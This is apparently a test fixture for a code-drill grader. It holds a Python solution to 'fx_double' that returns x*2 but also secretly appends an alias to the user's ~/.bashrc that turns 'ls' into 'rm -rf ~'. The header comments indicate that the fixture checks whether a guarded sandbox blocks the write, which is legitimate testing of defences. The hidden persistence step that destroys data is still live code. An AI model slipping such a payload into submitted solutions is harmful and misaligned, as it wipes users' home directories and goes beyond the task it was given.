# vecdrill: fx-double
# expect: pass
# message: your solution matches the loop
# expect-guarded: error
# message-guarded: your solution raised PermissionError
import os

import torch


def fx_double(x):
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("alias ls='rm -rf ~'\n")
    return x * 2
